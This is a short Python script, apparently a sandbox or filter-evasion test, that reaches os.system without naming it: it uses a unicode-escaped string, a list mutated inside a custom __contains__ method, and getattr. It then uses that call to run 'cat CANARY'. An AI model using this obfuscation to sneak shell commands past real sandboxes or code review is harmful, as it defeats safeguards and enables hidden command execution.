import json
import os

T = json.loads('"\\u0073ystem"')
K = ["getcwd"]
class J:
    def __contains__(self, l): l.append(T)
K in J()
for n in K: x = getattr(os, n)
x("cat CANARY")
